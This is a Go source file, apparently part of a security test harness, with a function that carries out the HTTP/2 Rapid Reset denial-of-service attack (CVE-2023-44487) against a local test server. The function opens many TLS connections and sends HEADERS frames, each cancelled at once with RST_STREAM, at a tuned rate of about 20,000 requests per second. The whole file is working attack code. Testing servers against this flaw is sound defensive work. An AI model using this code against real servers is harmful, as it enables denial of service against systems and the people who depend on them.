package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset asks over HTTP/2 and takes each request back at once (CVE-2023-44487), so often in
// a second that most of the work is the server's.
func rapidReset(ctx context.Context, w *world) (string, error) {
	_, address, _ := strings.Cut(w.server.url("http"), "://")
	var head bytes.Buffer
	encode := hpack.NewEncoder(&head)
	encode.SetMaxDynamicTableSize(0) // so that all requests have the same bytes
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", address}, {":path", "/popup.js"}} {
		if err := encode.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return "", err
		}
	}
	const workers, perSecond, burst = 4, 20_000, 100
	var requests, connections atomic.Int64
	repeatedly(ctx, workers, 10_000, 1000, func(ctx context.Context, _, _ int) {
		raw, err := dialFrom(ctx, attackerAddress, address)
		if err != nil {
			return
		}
		defer raw.Close()
		stop := context.AfterFunc(ctx, func() { _ = raw.Close() })
		defer stop()
		settings := w.server.trust.Clone()
		settings.NextProtos, settings.ServerName = []string{"h2"}, "127.0.0.1"
		conn := tls.Client(raw, settings)
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return
		}
		connections.Add(1)
		go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
		frames := http2.NewFramer(conn, nil)
		if frames.WriteSettings() != nil {
			return
		}
		for id := uint32(1); id < 1<<30; id += 2 {
			if frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
				frames.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				return // the server has had enough
			}
			requests.Add(1)
			if id/2%burst == burst-1 {
				sleep(ctx, time.Second*burst*workers/perSecond)
			}
		}
	})
	return fmt.Sprintf("%d requests taken back, on %d connections", requests.Load(), connections.Load()), nil
}
